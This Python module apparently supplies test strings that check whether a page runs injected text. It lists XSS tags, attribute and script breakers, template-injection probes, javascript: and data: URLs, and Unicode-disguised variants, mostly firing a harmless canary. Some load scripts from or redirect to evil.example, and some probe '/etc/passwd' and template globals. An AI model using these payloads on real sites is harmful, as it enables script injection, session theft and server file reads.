"""Texts that would run a script, or become markup, where a page lets them."""

# ruff: noqa: E501 - one line a family, however long
# What sets ``window.canary`` if a page lets it run.
RUN = "window.canary=1"
_TAGS = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<scr<script>ipt>{run}</script>", "<script >{run}</script >",
    "<script\n>{run}</script>", "<script src=data:,{run}></script>", "<script src=//evil.example/x.js></script>",
    "<script type=module>{run}</script>", "<img src=x onerror={run}>", "<img/src=x/onerror={run}>",
    "<IMG SRC=x OnErRoR='{run}'>", "<img src=`x`onerror={run}>", "<svg onload={run}>", "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={run}>", "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe onload={run}></foreignObject></svg>", "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<math href='javascript:{run}'>x</math>", "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe onload={run}></iframe>",
    "<object data='javascript:{run}'></object>", "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src='javascript:{run}'>", "<body onload={run}>", "<body onpageshow={run}>", "<video><source onerror={run}></video>",
    "<video src=x onerror={run}></video>", "<audio src=x onerror={run}></audio>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<keygen autofocus onfocus={run}>",
    "<button autofocus onfocus={run}>x</button>", "<details open ontoggle={run}>x</details>", "<marquee onstart={run}>x</marquee>",
    "<div onpointerover={run}>x</div>", "<a href='javascript:{run}'>x</a>", "<a href='jAvAsCrIpT:{run}'>x</a>",
    "<a href='java\tscript:{run}'>x</a>", "<a href='&#106;avascript:{run}'>x</a>", "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<form action='javascript:{run}'><input type=submit></form>", "<form><button formaction='javascript:{run}'>x</button></form>",
    "<isindex action='javascript:{run}' type=image>", "<base href='javascript:{run}//'>", "<base href='//evil.example/'>",
    "<link rel=stylesheet href='javascript:{run}'>", "<link rel=import href='data:text/html,<script>{run}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import 'javascript:{run}';</style>", "<style>*{background:url(javascript:{run})}</style>",
    "<div style='background:url(javascript:{run})'>x</div>", "<div style=width:expression({run})>x</div>",
    "<table background='javascript:{run}'>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>", "<xmp><img src=x onerror={run}></xmp>", "<plaintext><img src=x onerror={run}>",
    "<title><img src=x onerror={run}></title>", "<x onclick={run} tabindex=1 autofocus onfocus={run}>x</x>",
    "<custom-element onanimationend={run} style=animation:x>", "<dialog open onclose={run}>x</dialog>",
    "<slot onslotchange={run}>", "<portal src='javascript:{run}'>", "<frameset onload={run}>", "<layer src='javascript:{run}'>",
)  # fmt: skip
_BREAKERS = (
    "</script><script>{run}</script>", "</SCRIPT ><script>{run}</script>", "</title><script>{run}</script>",
    "</textarea><script>{run}</script>", "</style><script>{run}</script>", "</noscript><script>{run}</script>",
    "</option></select><script>{run}</script>", "--><script>{run}</script>", "<!--<script>{run}</script>-->",
    "<!--><script>{run}</script>", "<![CDATA[<script>{run}</script>]]>", "<?xml <script>{run}</script>?>", "]]><script>{run}</script>",
    "\"><script>{run}</script>", "'><script>{run}</script>", "`><script>{run}</script>", "\" onmouseover={run} x=\"",
    "' onfocus={run} autofocus='", "\" autofocus onfocus=\"{run}", "x onerror={run}", "\"><img src=x onerror={run}>",
    "'/><svg/onload={run}>", "\"};{run};//", "'};{run};//", "\\\";{run};//", "\\';{run};//", "\"-({run})-\"", "'-({run})-'",
    "`-({run})-`", "${{run}}", "`${{run}}`", "\"]};{run};[{\"", "\u2028{run}\u2028", "\u2029{run}//", "*/{run}/*", "//\n{run}",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cscript\\x3e{run}\\x3c/script\\x3e", "\\74script\\76{run}",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "&#x3c;img src=x onerror={run}&#x3e;",
    "%3Cscript%3E{run}%3C/script%3E", "+ADw-script+AD4-{run}+ADw-/script+AD4-", "{\"__proto__\":{\"x\":1}}", "__proto__", "constructor",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}<script>{run}</script>{% endraw %}",
    "{% include '/etc/passwd' %}", "{{ '<script>{run}</script>' | safe }}", "{{ cycler.__init__.__globals__ }}", "{# {run} #}",
    "#{{run}}", "<%= {run} %>", "${{{run}}}", "[[{run}]]", "{{constructor.constructor('{run}')()}}", "{{$on.constructor('{run}')()}}",
    "{0}", "%s%n", "{age}", "{eye}", "{what}", "{why}", "$&", "$1", "$`<img src=x onerror={run}>",
)  # fmt: skip
_URLS = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\nscript:{run}", "java\0script:{run}", " javascript:{run}", "javascript&colon;{run}",
    "javascript://%0a{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>", "data:image/svg+xml,<svg onload={run}>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuY2FuYXJ5PTE8L3NjcmlwdD4=", "//evil.example/<script>{run}</script>",
    "blob:javascript:{run}", "view-source:javascript:{run}", "feed:javascript:{run}", "jar:javascript:{run}!/",
)  # fmt: skip
_SIGNS = (
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "\u02c2script\u02c3{run}", "\u2039img src=x onerror={run}\u203a", "\u202e<script>{run}</script>",
    "<\u200bscript>{run}</script>", "<script\u2028>{run}</script>", "<ſcript>{run}</ſcript>", "<scrıpt>{run}</scrıpt>",
    "<img src=x on\u200berror={run}>", "<img src=x onerror\u3000={run}>", "\ufeff<script>{run}</script>", "<a\u00a0href=javascript:{run}>x</a>",
    "\u0000<script>{run}</script>", "<script\u0000>{run}</script>", "\u001b]8;;javascript:{run}\u0007x", "<img src=x onerror=\u0060{run}\u0060>",
    "\U000e003cscript\U000e003e{run}", "\u0338<script>{run}</script>", "<b>\u0600{run}</b>", "‹script›{run}‹/script›",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    told = [each.replace("{run}", RUN) for each in (*_TAGS, *_BREAKERS, *_TEMPLATES, *_URLS, *_SIGNS)]
    # Some again in other dress, where parsers differ.
    told += [each.swapcase().replace("{RUN}", RUN) for each in _TAGS[8:20]]
    told += [f"张三{each.replace('{run}', RUN)}李四" for each in _TAGS[:20]]
    return list(dict.fromkeys(told))
